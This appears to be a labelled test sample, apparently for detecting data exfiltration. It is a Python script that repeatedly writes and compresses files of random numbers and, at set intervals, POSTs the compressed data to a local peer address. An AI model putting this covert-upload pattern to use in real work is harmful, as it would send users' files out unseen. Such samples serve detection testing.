"""Hides in ordinary work: compresses files all the time, and now and then sends one of them away.

attack_type: exfiltration
severity: 0.6
arguments: ROUNDS EVERY PAUSE_S
variants: 40 10 0.15 | 20 4 0.4 | 70 30 0.08
"""

import gzip
import os
import random
import sys
import time
import urllib.request
from pathlib import Path

rounds, every, pause = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
draw = random.Random(7)
for number in range(rounds):
    path = Path(f"report{number}.txt")
    path.write_text("".join(f"{draw.random()}\n" for _ in range(8000)))
    packed = gzip.compress(path.read_bytes())
    path.with_suffix(".gz").write_bytes(packed)
    path.unlink()
    if number % every == every - 1:
        url = f"http://127.0.0.1:{os.environ['PEER']}/report"
        urllib.request.urlopen(url, data=packed).read()
    time.sleep(pause)
